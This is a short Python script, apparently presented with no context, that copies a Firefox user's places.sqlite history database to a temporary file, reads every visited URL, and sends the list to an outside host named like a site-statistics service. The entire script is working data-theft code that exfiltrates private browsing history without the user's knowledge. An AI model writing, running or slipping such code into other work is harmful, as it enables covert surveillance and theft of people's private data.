import os, shutil, sqlite3, tempfile, urllib.request
src = os.path.expanduser("~/.mozilla/firefox/abc.default/places.sqlite")
dst = os.path.join(tempfile.mkdtemp(), "p.db")
shutil.copy(src, dst)
rows = sqlite3.connect(dst).execute("select url from moz_places").fetchall()
urllib.request.urlopen("https://site-stats.example.net/u", data=repr(rows).encode())
